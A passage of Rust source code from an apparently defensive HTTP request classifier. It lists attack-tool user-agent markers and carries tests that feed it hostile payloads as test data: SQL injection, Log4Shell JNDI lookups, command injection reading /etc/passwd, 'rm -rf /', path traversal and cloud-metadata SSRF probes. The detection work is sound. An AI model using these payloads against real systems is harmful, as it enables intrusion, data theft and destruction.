        static SEEN: RefCell<Vec<Slot>> = const { RefCell::new(Vec::new()) };
    }

    /// A multiply per eight bytes; any spread is right.
    fn slot(b: &[u8]) -> usize {
        (super::spread(b) >> 56) as usize % SLOTS
    }

    /// Was this (non-empty) value left out lately? If so, the attack tool it names.
    pub fn seen(v: &str) -> Option<Option<&'static str>> {
        if v.is_empty() || v.len() > MAX {
            return None;
        }
        SEEN.with(|s| match s.borrow().get(slot(v.as_bytes())) {
            Some((k, tool)) if **k == *v => Some(*tool),
            _ => None,
        })
    }

    /// Forget every value (a test's fresh start).
    #[cfg(test)]
    pub fn clear() {
        SEEN.with(|s| s.borrow_mut().clear());
    }

    pub fn add(v: &str) {
        if v.is_empty() || v.len() > MAX {
            return;
        }
        let tool = super::scanner_tool(v);
        SEEN.with(|s| {
            let mut s = s.borrow_mut();
            if s.is_empty() {
                s.resize(SLOTS, (Box::from(""), None));
            }
            s[slot(v.as_bytes())] = (v.into(), tool);
        });
    }
}

/// Known attack tools by their user agent: (substring, tool).
const TOOLS: [(&str, &str); 22] = [
    ("sqlmap", "sqlmap"),
    ("nikto", "nikto"),
    ("gobuster", "gobuster"),
    ("fuzz faster u fool", "ffuf"),
    ("ffuf", "ffuf"),
    ("wfuzz", "wfuzz"),
    ("dirbuster", "dirbuster"),
    ("feroxbuster", "feroxbuster"),
    ("(hydra)", "hydra"),
    ("nmap scripting engine", "nmap"),
    ("masscan", "masscan"),
    ("nuclei", "nuclei"),
    ("zgrab", "zgrab"),
    ("acunetix", "acunetix"),
    ("netsparker", "netsparker"),
    ("burpcollaborator", "burp"),
    ("w3af", "w3af"),
    ("arachni", "arachni"),
    ("wpscan", "wpscan"),
    ("openvas", "openvas"),
    ("commix", "commix"),
    ("jaeles", "jaeles"),
];

/// All the tools' markers in one case-insensitive pass (the regex crate's literal prefilter),
/// instead of 22 substring searches per request.
static TOOL_SET: std::sync::LazyLock<regex::RegexSet> = std::sync::LazyLock::new(|| {
    regex::RegexSet::new(TOOLS.iter().map(|(s, _)| format!("(?i){}", regex::escape(s))))
        .unwrap_or_else(|_| regex::RegexSet::empty())
});

pub fn scanner_tool(ua: &str) -> Option<&'static str> {
    tool_cache::get(ua, |ua| TOOL_SET.matches(ua).iter().next().map(|i| TOOLS[i].1))
}

/// The answers for the user agents seen lately (per thread; exact, direct-mapped): a client
/// sends the same User-Agent on every call, and the pattern set costs ~1.5k instructions a
/// look.
mod tool_cache {
    use std::cell::RefCell;

    const SLOTS: usize = 1024;
    const MAX: usize = 512;

    type Slot = Option<(Box<str>, Option<&'static str>)>;

    thread_local! {
        static SEEN: RefCell<Vec<Slot>> = const { RefCell::new(Vec::new()) };
    }

    /// The slot of a user agent: a multiply per eight bytes (a byte at a time cost more than
    /// the rest of the look-up). Only where an answer is kept: any spread is right.
    fn slot(b: &[u8]) -> usize {
        (super::spread(b) >> 54) as usize % SLOTS
    }

    pub fn get(ua: &str, look: impl FnOnce(&str) -> Option<&'static str>) -> Option<&'static str> {
        if ua.len() > MAX {
            return look(ua);
        }
        let i = slot(ua.as_bytes());
        if let Some(hit) = SEEN.with(|s| match s.borrow().get(i) {
            Some(Some((k, v))) if &**k == ua => Some(*v),
            _ => None,
        }) {
            return hit;
        }
        let v = look(ua);
        SEEN.with(|s| {
            let mut s = s.borrow_mut();
            if s.is_empty() {
                s.resize(SLOTS, None);
            }
            s[i] = Some((ua.into(), v));
        });
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn status_text_is_the_status_written_out() {
        for s in 0..=1000u16 {
            assert_eq!(status_text(s), s.to_string());
        }
    }

    #[test]
    fn login_paths_and_tools() {
        assert!(is_login_path("/api/v1/login"));
        assert!(is_login_path("/oauth/token"));
        assert!(!is_login_path("/api/v1/users/login-history"));
        assert_eq!(scanner_tool("sqlmap/1.7.2#stable (https://sqlmap.org)"), Some("sqlmap"));
        assert_eq!(scanner_tool("Mozilla/5.0 (Hydra)"), Some("hydra"));
        assert_eq!(scanner_tool("Fuzz Faster U Fool v1.1.0"), Some("ffuf"));
        assert_eq!(scanner_tool("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"), None);
        // asked again: the cached answers are the same
        assert_eq!(scanner_tool("sqlmap/1.7.2#stable (https://sqlmap.org)"), Some("sqlmap"));
        assert_eq!(scanner_tool("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"), None);
        assert_eq!(normalize("%2527%20OR+1%3D1"), "' or 1=1");
    }
}

/// Is this part the value of a secret-named field (a password, a token)? Its text is scanned
/// but never quoted as evidence.
pub fn secret_part(at: &str) -> bool {
    let name = at.rsplit(':').next().unwrap_or("");
    crate::redact::is_secret_param(name) || crate::redact::is_key_header(name)
}

/// `scheme://user:pass@host/...` with the credentials replaced by `***`.
pub fn strip_userinfo(s: &str) -> String {
    if let Some(i) = s.find("://") {
        let rest = &s[i + 3..];
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        if let Some(at) = rest[..end].rfind('@') {
            return format!("{}***{}", &s[..i + 3], &rest[at..]);
        }
    }
    s.to_string()
}

#[cfg(test)]
mod input_tests {
    use super::*;
    use crate::http::{Message, Transaction};

    fn post(ct: &str, body: &str, headers: &[(&str, &str)]) -> Transaction {
        let mut h: Vec<(String, String)> =
            vec![("Content-Type".into(), ct.into()), ("Host".into(), "10.77.0.10".into())];
        h.extend(headers.iter().map(|(a, b)| (a.to_string(), b.to_string())));
        let q = Message {
            method: "POST".into(),
            uri: "/api/search".into(),
            headers: h.into(),
            body_len: body.len() as u64,
            body: body.as_bytes().to_vec(),
            ..Default::default()
        };
        Transaction::new(Some(q), None, false)
    }

    fn verdicts(tx: &Transaction) -> Vec<&'static str> {
        let inputs = Inputs::of_site(tx, None, &[]);
        classify(tx, &inputs, &Default::default()).names()
    }

    #[test]
    fn json_padding_and_nesting_do_not_hide_a_payload() {
        let pad: Vec<String> = (0..300).map(|i| i.to_string()).collect();
        let padded = format!(
            r#"{{"a":[{}],"q":"1' UNION SELECT password FROM users--"}}"#,
            pad.join(",")
        );
        assert!(verdicts(&post("application/json", &padded, &[])).contains(&"sqli"));
        let strings: Vec<String> = (0..600).map(|i| format!("\"v{i}\"")).collect();
        let padded = format!(
            r#"{{"z":[{}],"a":"1' UNION SELECT password FROM users--"}}"#,
            strings.join(",")
        );
        assert!(verdicts(&post("application/json", &padded, &[])).contains(&"sqli"));
        let deep = format!(r#"{}"1 OR 1=1--' UNION SELECT 1"{}"#, "[".repeat(40), "]".repeat(40));
        assert!(verdicts(&post("application/json", &deep, &[])).contains(&"sqli"));
        let nested = format!("{}\"x\"{}", "{\"k\":".repeat(30), "}".repeat(30));
        assert!(verdicts(&post("application/json", &nested, &[])).is_empty());
        // a broken escape or a syntax error ends nothing
        let esc = r#"{"a":"\uZZZZ \é","b":"${jndi:ldap://203.0.113.66:1389/a}"}"#;
        assert!(verdicts(&post("application/json", esc, &[])).contains(&"jndi"));
        let broken = r#"{"a":1,,, ; "b": '${jndi:ldap://203.0.113.66/a}'}"#;
        assert!(verdicts(&post("application/json", broken, &[])).contains(&"jndi"));
    }

    #[test]
    fn json_strings_unescape_in_document_order() {
        let mut out = Vec::new();
        assert!(json_strings(
            r#"{"b":"x\"y\u0027z or 1=1","a":{"url":"localhost"},"c":["tom & jerry"]}"#,
            &mut out
        ));
        let got: Vec<(&str, &str)> = out.iter().map(|(a, b)| (a.as_ref(), b.as_ref())).collect();
        assert_eq!(
            got,
            [
                ("body:b", "x\"y'z or 1=1"),
                ("body:url", "localhost"),
                ("body:c", "tom & jerry")
            ]
        );
        // cut short by the body depth: what came before is kept, and the string cut short too
        out.clear();
        assert!(json_strings(
            r#"{"q":"a;b c","r":"1' UNION SELECT pass FROM us"#,
            &mut out
        ));
        assert_eq!(out.len(), 2);
        assert_eq!(out[1], ("body:r".into(), "1' union select pass from us".into()));
    }

    #[test]
    fn jndi_lookup_in_any_header_is_injection() {
        for h in ["User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For"] {
            let tx = post("text/plain", "", &[(h, "${jndi:ldap://203.0.113.66:1389/a}")]);
            assert!(verdicts(&tx).contains(&"jndi"), "{h}");
        }
    }

    #[test]
    fn benign_free_text_is_not_injection() {
        for q in [
            r#"{"q":"O'Brien's \"best\" drop table lamp & chairs; 100% oak <3"}"#,
            r#"{"name":"Conan O'Brien","note":"select union; drop-in table"}"#,
            r#"{"review":"5 stars -- would buy again; it's 1=1 great"}"#,
        ] {
            assert!(
                verdicts(&post("application/json", q, &[])).is_empty(),
                "{q}: {:?}",
                verdicts(&post("application/json", q, &[]))
            );
        }
        let tx = post(
            "application/x-www-form-urlencoded",
            "q=O%27Brien%27s+%22best%22+drop+table+lamp+%26+chairs%3B+100%25+oak+%3C3",
            &[
                ("Referer", "http://10.77.0.10/search?q=select"),
                ("Origin", "http://10.77.0.10"),
            ],
        );
        assert!(verdicts(&tx).is_empty(), "{:?}", verdicts(&tx));
    }

    #[test]
    fn matrix_parameters_are_not_commands() {
        let q = Message {
            method: "GET".into(),
            uri: "/activityi;src=4378683;type=invmedia;cat=abcdef;ord=1;num=12345?".into(),
            headers: vec![("Host".into(), "ad.example".into())].into(),
            ..Default::default()
        };
        let tx = Transaction::new(Some(q), None, false);
        assert!(verdicts(&tx).is_empty(), "{:?}", verdicts(&tx));
        let q = Message {
            method: "GET".into(),
            uri: "/ping?host=127.0.0.1;cat%20/etc/passwd".into(),
            ..Default::default()
        };
        assert!(verdicts(&Transaction::new(Some(q), None, false)).contains(&"cmdi"));
    }
}

#[cfg(test)]
mod site_tests {
    use super::*;
    use crate::http::{Message, Transaction};

    #[test]
    fn configured_site_origins_and_the_server_address_are_the_site() {
        let q = Message {
            method: "GET".into(),
            uri: "/login?return_to=http%3A%2F%2F10.1.2.3%2Fcart&next=http://10.9.9.9:8443/a".into(),
            headers: vec![("Host".into(), "shop.example.com".into())].into(),
            ..Default::default()
        };
        let tx = Transaction::new(Some(q), None, false);
        let names = |i: &Inputs| classify(&tx, i, &Default::default()).names();
        // the internal name behind the proxy is unknown: both URLs look like probes
        assert!(names(&Inputs::of_site(&tx, None, &[])).contains(&"ssrf"));
        // the server's own address and a configured origin are the site itself
        let ip: std::net::IpAddr = "10.9.9.9".parse().expect("ip");
        let origins = ["HTTP://10.1.2.3".to_string()];
        let i = Inputs::of_site(&tx, Some((ip, 8443)), &origins);
        assert!(names(&i).is_empty(), "{:?}", names(&i));
    }

    #[test]
    fn a_forged_host_cannot_launder_a_probe() {
        let server: std::net::IpAddr = "10.0.0.5".parse().expect("ip");
        for (host, url) in [
            ("127.0.0.1", "http://127.0.0.1/admin"),
            ("localhost", "http://localhost/admin"),
            ("10.0.0.5:6379", "http://10.0.0.5:6379/"),
            ("169.254.169.254", "http://169.254.169.254/latest/meta-data/"),
        ] {
            let q = Message {
                method: "GET".into(),
                uri: format!("/fetch?url={url}"),
                headers: vec![("Host".into(), host.into())].into(),
                ..Default::default()
            };
            let tx = Transaction::new(Some(q), None, false);
            let i = Inputs::of_site(&tx, Some((server, 80)), &[]);
            assert!(
                classify(&tx, &i, &Default::default()).names().contains(&"ssrf"),
                "Host {host}, {url}"
            );
        }
    }
}

/// The borrowing inputs against the copying way they were built before (kept here as the
/// reference): the same parts, in the same order, on crafted and hostile requests.
#[cfg(test)]
mod borrow_tests {
    use super::*;
    use crate::http::{Message, Transaction};

    /// The header classification as the lists say it (the code before [`header_use`]).
    fn header_use_by_list_compare(n: &str) -> HeaderUse {
        let lower = n.to_ascii_lowercase();
        let lower = lower.as_bytes();
        let is = |list: &[&str]| list.iter().any(|s| s.as_bytes() == lower);
        if is(&SECRET_HEADERS) || is(&["host", "content-length"]) || crate::redact::is_key_header_lower(lower) {
            return HeaderUse::Skip;
        }
        HeaderUse::Input {
            label: HEADER_PARTS.iter().copied().find(|p| p.as_bytes()[7..] == *lower),
            read: is(&ssrf::READS_HEADERS),
        }
    }

    #[test]
    fn header_use_agrees_with_the_lists() {
        let mut names: Vec<String> = HEADER_PARTS.iter().map(|p| p[7..].to_string()).collect();
        names.extend(SECRET_HEADERS.iter().map(|s| s.to_string()));
        names.extend(ssrf::READS_HEADERS.iter().map(|s| s.to_string()));
        for n in [
            "host",
            "content-length",
            "x-auth-token",
            "x-csrf-token",
            "api-key",
            "apikey",
            "x-goog-api-key",
            "ocp-apim-subscription-key",
            "x-amz-security-token",
            "x-custom",
            "",
            "x",
            "hostx",
            "user-agent2",
            "refererr",
            "x-forwarded-fo",
            "accept-encoding",
            "dnt",
            "x-b3-traceid",
        ] {
            names.push(n.to_string());
        }
        let mut all = Vec::new();
        for n in &names {
            all.push(n.clone());
            all.push(n.to_ascii_uppercase());
            let mut mixed: String = n
                .chars()
                .enumerate()
                .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c })
                .collect();
            all.push(mixed.clone());
            mixed.push_str(&"-x".repeat(30)); // too long for the stack buffer
            all.push(mixed);
        }
        all.push("Ü-Agent".to_string());
        all.push("user-agent\u{0}".to_string());
        for n in &all {
            let want = header_use_by_list_compare(n);
            assert_eq!(header_use_by_lists(n), want, "{n:?}");
            let lower = n.to_ascii_lowercase();
            assert_eq!(header_use(lower.as_bytes()), want, "{n:?}");
        }
        // the match names no API-key header as an input (the redactor's list is asked after it)
        for p in HEADER_PARTS {
            assert!(!crate::redact::is_key_header(&p[7..]), "{p}");
        }
    }

    fn request(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Transaction {
        let q = Message {
            method: method.into(),
            uri: uri.into(),
            headers: headers
                .iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect::<Vec<_>>()
                .into(),
            body_len: body.len() as u64,
            body: body.to_vec(),
            ..Default::default()
        };
        Transaction::new(Some(q), None, false)
    }

    fn of_borrowing(tx: &Transaction) -> Vec<(String, String)> {
        Inputs::of(tx)
            .parts
            .into_iter()
            .map(|(a, v)| (a.into_owned(), v.into_owned()))
            .collect()
    }

    /// The usual headers' values left out of the inputs (no pattern can match them, no SSRF
    /// read) change no verdict nor evidence: the same as with them put back, for values with
    /// and without the literals, escapes, capitals, non-ASCII, beyond the scan cap, and the
    /// headers the SSRF classifier reads.
    #[test]
    fn unmatchable_header_values_left_out_change_no_verdict() {
        let long_plain = format!("a/{}", "b".repeat(payload::SCAN_CAP));
        let long_literal = format!("{}/etc/passwd", "b".repeat(payload::SCAN_CAP));
        let values = [
            "application/json",
            "shop-client/2.0",
            "text/html,application/xhtml+xml",
            "/etc/passwd",
            "../../etc/passwd",
            "x-union-select-from",
            "UNION SELECT",
            "%2e%2e/%2e%2e/etc/passwd",
            "document.cookie",
            "0x41414141",
            "caf\u{e9}/x",
            "localhost/x",
            "http://169.254.169.254/latest",
            "gzip, deflate",
            "max-age=0",
            "\u{65e5}\u{672c}/passwd",
            long_plain.as_str(),
            long_literal.as_str(),
        ];
        let names = [
            "User-Agent",
            "Accept",
            "Content-Type",
            "Referer",
            "Origin",
            "Cache-Control",
            "X-Real-IP",
            "X-Custom",
        ];
        for v in values {
            for n in names {
                let tx = request("GET", "/api/v1/users/1?q=a", &[(n, v), ("Accept", v)], b"");
                let kept = Inputs::of(&tx);
                let mut all = Inputs::of(&tx);
                for (hn, hv) in tx.request.as_ref().map(|q| q.headers.iter()).into_iter().flatten() {
                    let lower = hn.to_ascii_lowercase();
                    if let HeaderUse::Input {
                        label: Some(l),
                        read: false,
                    } = header_use(lower.as_bytes())
                    {
                        let (nv, c) = normalized_classed(hv);
                        let there = all.parts.iter().any(|(a, x)| a == l && *x == nv);
                        if !payload::skipped_by(&nv, c) && !there {
                            all.parts.push((Part::Borrowed(l), Cow::Owned(nv.into_owned())));
                        }
                    }
                }
                assert_eq!(payload::scan(&kept), payload::scan(&all), "{n}: {v:.60}");
                assert_eq!(ssrf::scan(&kept), ssrf::scan(&all), "{n}: {v:.60}");
            }
        }
    }

    /// [`decoded_lowered`] is the plain way: pluses replaced, decoded twice, lowercased, on
    /// texts of pluses, escapes (whole, cut, of a plus or a percent, doubled), capitals and
    /// non-ASCII letters whose lowercase differs in length.
    #[test]
    fn decoded_lowered_is_replace_decode_twice_lowercase() {
        let plain = |s: &str| {
            let once = percent_decode_lossy(&s.replace('+', " ")).into_owned();
            let twice = if once.contains('%') {
                percent_decode_lossy(&once).into_owned()
            } else {
                once
            };
            twice.to_lowercase()
        };
        let pieces = [
            "+",
            "%",
            "%2",
            "%2B",
            "%2b",
            "%25",
            "%2541",
            "%41",
            "%+",
            "%+1",
            "%4+",
            "%%41",
            "%C3%A9",
            "%FF",
            "A",
            "z",
            "Customer 97118",
            "+1-555-0197118",
            "\u{130}",
            "\u{c9}",
            "\u{3a3}",
            " ",
            "1",
            "%252B",
            "%E2%82",
        ];
        let mut x = 0x2545_f491_4f6c_dd1du64;
        for _ in 0..20_000 {
            let mut t = String::new();
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            let mut y = x;
            for _ in 0..(y % 6 + 1) {
                y /= 7;
                t.push_str(pieces[(y % pieces.len() as u64) as usize]);
                y /= pieces.len() as u64;
            }
            assert_eq!(decoded_lowered(&t), plain(&t), "{t:?}");
        }
        for t in pieces {
            assert_eq!(decoded_lowered(t), plain(t), "{t:?}");
        }
    }

    /// Path and query values left out of the inputs (neither classifier acts on them) change
    /// no verdict nor evidence: the same as with them put back, for plain paths, paths with
    /// the literals, escapes, capitals, hosts and URLs, and long ones.
    #[test]
    fn values_no_classifier_reads_left_out_change_no_verdict() {
        let long_plain = format!("/a/{}", "b".repeat(payload::SCAN_CAP));
        let long_literal = format!("/{}/etc/passwd", "b".repeat(payload::SCAN_CAP));
        let values = [
            "/api/v1/users/97118",
            "/etc/passwd",
            "/a/../../etc/passwd",
            "/x/union/select",
            "/%2e%2e/%2e%2e/etc/passwd",
            "/A/B/C",
            "/Users/%41",
            "localhost",
            "metadata",
            "/x.y",
            "2",
            "audio",
            "o'brien",
            "1' or '1'='1",
            "http://169.254.169.254/latest",
            "10.0.0.1:8080",
            "document.cookie",
            "/caf\u{e9}",
            "<script>",
            long_plain.as_str(),
            long_literal.as_str(),
        ];
        for v in values {
            let enc: String = v
                .bytes()
                .map(|b| {
                    if b == b'?' || b == b'&' || b == b'=' || b == b'#' {
                        '_'
                    } else {
                        b as char
                    }
                })
                .collect();
            for uri in [
                format!("{enc}?url={enc}&page=2&q={enc}"),
                enc.clone(),
                format!("/p?{enc}"),
            ] {
                let tx = request("GET", &uri, &[], b"");
                let kept = Inputs::of(&tx);
                let mut all = Inputs::of(&tx);
                let (path, query) = crate::util::split_query(&uri).unwrap_or((&uri, ""));
                let mut put = vec![("path".to_string(), normalize(path))];
                for (k, x) in crate::redact::query_pairs(query) {
                    put.push((format!("query:{}", normalize(k)), normalize(x)));
                }
                for (a, x) in put {
                    if !all.parts.iter().any(|(b, y)| *b == a && *y == x) {
                        all.parts.push((Part::Owned(a), Cow::Owned(x)));
                    }
                }
                assert_eq!(payload::scan(&kept), payload::scan(&all), "{uri:.80}");
                assert_eq!(ssrf::scan(&kept), ssrf::scan(&all), "{uri:.80}");
            }
        }
    }

    #[test]
    fn borrowed_inputs_are_the_copied_inputs() {
        let long = format!("/a/{}", "x%41Y".repeat(3000));
        let long_json = format!(r#"{{"k":"{}","url":"localhost:1"}}"#, "\\u0041b".repeat(2000));
        let cases: Vec<(&str, String, Vec<(&str, &str)>, Vec<u8>)> = vec![
            ("GET", "/api/v1/users/97118".into(), vec![("Host", "a"), ("User-Agent", "shop-client/2.0"), ("Accept", "application/json"), ("Authorization", "Bearer x")], vec![]),
            ("GET", "/api/v1/products/SKU-12?category=Audio&page=2&$where=1&a[b]=%27&q=%2527+or+1%3D1&=&&x".into(), vec![("Referer", "http://10.0.0.1/x"), ("X-Custom", "a b c; d"), ("X-CUSTOM-2", "AbC%20dEf"), ("Cookie", "s=1"), ("X-Api-Key", "k")], vec![]),
            ("GET", "/caf\u{e9}/%C3%A9/\u{65e5}\u{672c}?n\u{e4}me=v\u{e4}l%ZZ".into(), vec![("Origin", ""), ("Accept-Language", "de-DE,de;q=0.9"), ("X-Forwarded-For", "1.2.3.4, 5.6.7.8")], vec![]),
            ("GET", long.clone(), vec![("User-Agent", &long)], vec![]),
            ("GET", "".into(), vec![], vec![]),
            ("POST", "/login".into(), vec![("Content-Type", "Application/X-WWW-Form-URLEncoded; charset=utf-8")], b"user=Bob&pass=%27+OR+1%3D1--&next=http%3A%2F%2F127.0.0.1%2F&e=".to_vec()),
            ("POST", "/j".into(), vec![("Content-Type", "application/json")], br#"{"refresh_token": "rt-126626-f8a1afe7"}"#.to_vec()),
            ("POST", "/j".into(), vec![("Content-Type", "application/json")], br#"{"Name":"O'Brien","Q":"1' UNION SELECT a FROM b--","n":{"Url":"LOCALHOST:8080","$ne":1,"a(b":"x","k\u0041y":"v\"al\u0027ue or 1=1","e\\":"\ud83d\ude00 <script>"},"arr":[["deep", "x;y z"],{"callback":"10.0.0.1"}],"cut":"1' or '1'='1"#.to_vec()),
            ("POST", "/j".into(), vec![("Content-Type", "application/json")], br#"  [ "a;b c", 1, true, null, {"K":"V W; X"}, "unterminated \"#.to_vec()),
            ("POST", "/j".into(), vec![("Content-Type", "application/json")], br#"{"a":1,,, ; "b": '${jndi:ldap://x/a}'}"#.to_vec()),
            ("POST", "/j".into(), vec![("Content-Type", "application/json")], br#"{"a":"x"}}]"#.to_vec()),
            ("POST", "/j".into(), vec![], long_json.as_bytes().to_vec()),
            ("POST", "/t".into(), vec![("Content-Type", "text/plain")], b"Hello WORLD; rm -rf /".to_vec()),
            ("POST", "/t".into(), vec![], b"plain lower text".to_vec()),
            ("POST", "/t".into(), vec![], b"{\"a\":\"\xff\xfe or 1=1;x y\",\"B\":\"\xc3\"}".to_vec()),
            ("POST", "/t".into(), vec![], b"\xffNOT UTF-8 <script>".to_vec()),
            ("POST", "/t".into(), vec![("content-type", "application/x-www-form-urlencoded")], b"\xff=\xfe&a=%FF%FE".to_vec()),
        ];
        for (m, uri, h, body) in &cases {
            let tx = request(m, uri, h, body);
            assert_eq!(
                of_borrowing(&tx),
                of_by_copying(&tx),
                "{m} {uri:.80} {:?}",
                String::from_utf8_lossy(&body[..body.len().min(80)])
            );
        }
        let none = Transaction::new(None, None, false);
        assert_eq!(of_borrowing(&none), of_by_copying(&none));
    }

    #[test]
    fn json_strings_borrowing_is_json_strings_copying() {
        let cases = [
            r#"{"a":"plain","B":"MiXeD","c":"esc\"aped","d":"\u00e9t\u00E9","e":"\u","f":"\uD83D\uDE00","g":"\uD83D","h":"tab\tnl\n"}"#,
            r#"{"url":"localhost","UrL":"10.0.0.1","x":{"y":{"z":"a;b c"}},"after":"q; w e"}"#,
            r#"{"KEY\u0041":"v;1 2","Ünï":"wörds ünd; x","$gt":"","(k":1}"#,
            r#"["a;b c" , "d;e f"]"#,
            r#"{"k":"cut short; here"#,
            r#"{"k":"cut short after escape \""#,
            r#"{"k":"cut in escape \"#,
            r#"{"k"#,
            r#"{"#,
            r#""#,
            r#"}"#,
            r#"{"a":"x"} trailing"#,
            r#"{"a":"%27%20OR%201%3D1","b":"a+b;c d","c":"%2527"}"#,
            // names with each payload character (as is, capitalised, escaped), and inert names
            r#"{"a[b":1,"a(b":2,"a<b":3,"a'b":4,"a"b":5,"a;b":6,"a|b":7,"a`b":8,"A[B":9,"É(x":10}"#,
            r#"{"user.name@x:y+z_w-1":"v w; x","UPPER":"a;b c","n(":"x","$":"y","ok":"a;b c"}"#,
        ];
        for c in cases {
            let mut fast = Vec::new();
            let mut slow = Vec::new();
            let a = json_strings(c, &mut fast);
            let b = json_strings_by_copying(c, &mut slow);
            let fast: Vec<(String, String)> = fast
                .into_iter()
                .map(|(a, v)| (a.into_owned(), v.into_owned()))
                .collect();
            let slow: Vec<(String, String)> = slow.into_iter().map(|(a, v)| (a.into_owned(), v)).collect();
            assert_eq!((a, fast), (b, slow), "{c}");
        }
    }

    #[test]
    fn normalized_classed_is_normalize_and_its_classes() {
        let long = "AbC%2541+x".repeat(500);
        for t in [
            "",
            "plain",
            "Upper",
            "a%20b",
            "a+b",
            "%2527",
            "%",
            "%%",
            "%4",
            "%zz",
            "caf\u{e9}",
            "\u{130}STANBUL",
            "x\u{0}y",
            "%C3%A9",
            "%c3",
            "+",
            "++%2B",
            long.as_str(),
            "/api/v1/users/97118",
            "SKU-12",
        ] {
            let old_plain = !t
                .bytes()
                .any(|b| b == b'%' || b == b'+' || b.is_ascii_uppercase() || !b.is_ascii());
            assert_eq!(plain(t), old_plain, "{t:?}");
            let (v, c) = normalized_classed(t);
            assert_eq!(v, normalize(t), "{t:?}");
            assert_eq!(normalized(t), normalize(t), "{t:?}");
            assert_eq!(c, class::of(normalize(t).as_bytes()), "{t:?}");
            assert_eq!(matches!(v, Cow::Borrowed(_)), old_plain, "{t:?}");
        }
    }

    #[test]
    fn lowercased_is_to_lowercase() {
        for t in [
            "",
            "abc",
            "ABC",
            "aBc",
            "\u{c9}t\u{e9}",
            "\u{130}",
            "x;Y z",
            "\u{3a3}\u{3a3}",
        ] {
            assert_eq!(lowercased(t), t.to_lowercase(), "{t}");
        }
    }

    fn of_by_copying(tx: &Transaction) -> Vec<(String, String)> {
        let mut parts: Vec<(Part, String)> = Vec::with_capacity(8);
        let Some(q) = &tx.request else {
            return Vec::new();
        };
        let (path, query) = crate::util::split_query(&q.uri).unwrap_or((&q.uri, ""));
        // a value neither classifier acts on is left out
        let read = |v: &str| {
            ssrf::may_target(v)
                || !(payload::skipped(v)
                    || (v.len() <= payload::SCAN_CAP && !payload::may_match(v, class::of(v.as_bytes()))))
        };
        let p = normalize(path);
        if read(&p) {
            parts.push(("path".into(), p));
        }
        for (k, v) in crate::redact::query_pairs(query) {
            let k = normalize(k);
            let v = normalize(v);
            if read(&v) {
                parts.push((crate::util::concat(&["query:", &k]).into(), v));
            }
            if k.contains(['$', '[', '(', '<', '\'']) {
                parts.push(("query-name".into(), k));
            }
        }
        for (n, v) in &q.headers {
            // the name lowercased once, on the stack (names are short), then compared whole
            // against each list (a long name takes the case-insensitive way)
            let mut buf = [0u8; 48];
            let (skip, read_anyway) = match buf.get_mut(..n.len()) {
                Some(lower) => {
                    lower.copy_from_slice(n.as_bytes());
                    lower.make_ascii_lowercase();
                    let is = |list: &[&str]| list.iter().any(|s| s.as_bytes() == &*lower);
                    (
                        is(&SECRET_HEADERS)
                            || is(&["host", "content-length"])
                            || crate::redact::is_key_header_lower(lower),
                        is(&ssrf::READS_HEADERS),
                    )
                }
                None => (
                    SECRET_HEADERS.iter().any(|s| n.eq_ignore_ascii_case(s))
                        || n.eq_ignore_ascii_case("host")
                        || n.eq_ignore_ascii_case("content-length")
                        || crate::redact::is_key_header(n),
                    ssrf::READS_HEADERS.iter().any(|h| n.eq_ignore_ascii_case(h)),
                ),
            };
            if skip {
                continue;
            }
            // Only the injection classifiers read most headers, and they skip plain values
            // (see payload::scan); the SSRF classifier reads these few whatever they hold.
            // A value normalize would copy as it is is judged where it lies: nothing is
            // copied for the headers left out (most of them).
            let v = normalized(v);
            if payload::skipped(&v) && !read_anyway {
                continue;
            }
            let v = v.into_owned();
            // the usual names' labels are fixed strings (nothing allocated for them)
            let known = buf
                .get(..n.len())
                .and_then(|lower| HEADER_PARTS.iter().find(|p| p.as_bytes()[7..] == *lower));
            // a usual header's value no pattern can match is left out
            if !read_anyway
                && known.is_some()
                && v.len() <= payload::SCAN_CAP
                && !payload::may_match(&v, class::of(v.as_bytes()))
            {
                continue;
            }
            let at: Part = match known {
                Some(p) => Part::Borrowed(p),
                None => {
                    let mut at = crate::util::concat(&["header:", n]);
                    at[7..].make_ascii_lowercase();
                    at.into()
                }
            };
            parts.push((at, v));
        }
        if !q.body.is_empty() {
            let text = String::from_utf8_lossy(&q.body);
            let ct = q.header("content-type").unwrap_or("").to_ascii_lowercase();
            if ct.contains("x-www-form-urlencoded") {
                for (k, v) in crate::redact::query_pairs(&text) {
                    parts.push((crate::util::concat(&["body:", &normalize(k)]).into(), normalize(v)));
                }
            } else if text.trim_start().starts_with(['{', '[']) {
                // JSON: the values the application reads, not the quotes and braces around
                // them, in document order and at any depth (padding or nesting cannot push a
                // payload out of view: the body depth is the only bound). Broken JSON is also
                // scanned whole, so a syntax error hides nothing.
                if !json_strings_by_copying(&text, &mut parts) {
                    parts.push(("body".into(), text.to_lowercase()));
                }
            } else {
                parts.push(("body".into(), text.to_lowercase()));
            }
        }
        parts.into_iter().map(|(a, v)| (a.into_owned(), v)).collect()
    }

    fn json_strings_by_copying(text: &str, out: &mut Vec<(Part, String)>) -> bool {
        let b = text.as_bytes();
        // per open container: is it an object; and the open objects' current keys (the innermost
        // key is the last one: O(1) per value, whatever the nesting)
        let mut objects: Vec<bool> = Vec::new();
        let mut keys: Vec<String> = Vec::new();
        let mut expect_key = false;
        let mut i = 0;
        let mut sbuf = String::new();
        let value = |key: &str, raw: &str, out: &mut Vec<(Part, String)>| {
            // judged where it lies when normalizing would not change it; copied only when kept
            let v = normalized(raw);
            let inert = v.len() < 3 || payload::inert(&v) || payload::words(&v);
            if !inert || (v.len() >= 3 && urlish_key(key)) {
                out.push((crate::util::concat(&["body:", key]).into(), v.into_owned()));
            }
        };
        while i < b.len() {
            match b[i] {
                b' ' | b'\t' | b'\n' | b'\r' | b',' | b':' => {
                    if b[i] == b',' {
                        expect_key = objects.last() == Some(&true);
                    }
                    i += 1;
                }
                b'{' => {
                    objects.push(true);
                    keys.push(String::new());
                    expect_key = true;
                    i += 1;
                }
                b'[' => {
                    objects.push(false);
                    expect_key = false;
                    i += 1;
                }
                b'}' | b']' => {
                    match objects.pop() {
                        Some(true) => {
                            keys.pop();
                        }
                        Some(false) => {}
                        None => return false,
